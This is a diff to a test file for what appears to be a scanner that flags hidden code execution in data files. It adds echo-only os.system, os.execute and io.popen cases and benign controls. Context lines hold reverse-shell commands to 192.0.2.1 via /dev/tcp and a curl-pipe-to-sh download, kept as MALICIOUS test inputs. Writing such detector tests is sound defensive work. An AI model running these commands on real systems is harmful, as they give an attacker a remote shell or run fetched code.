@@ -28,6 +28,13 @@ CASES = {
     "python_decoded": hidden(DECODED),
     "python_indirect": hidden(INDIRECT),
     "python_import": hidden(b"import os;os.system('echo modelsweep-test')\n"),
+    "python_call": hidden(b"\0os.system('echo modelsweep-test')\0"),
+    "lua_call": hidden(b"\0os.execute('echo modelsweep-test')\0"),
+    "lua_pipe": hidden(b"\0local f = io.popen([[echo modelsweep-test]])\0"),
+    "benign_calls_in_data_set": Case(
+        lambda: NOISE + b"\0os.system('clear')\0os.execute('clear')\0" + NOISE, "text.lance", Verdict.NOT_SCANNED
+    ),
+    "benign_names_of_calls": hidden(b"\0os.system os.execute(x) io.popen() os.system(\0", Verdict.NOT_SCANNED),
     "attack_reverse_shell": hidden(b"\0bash -i >& /dev/tcp/192.0.2.1/9 0>&1\0", Verdict.MALICIOUS),
     "attack_reverse_shell_in_script": hidden(b"#!/bin/sh\nsh -i >& /dev/tcp/192.0.2.1/9 0>&1\n", Verdict.MALICIOUS),
     "attack_pipe": hidden(b"\0curl -s http://192.0.2.1/x.sh | sh\0", Verdict.MALICIOUS),
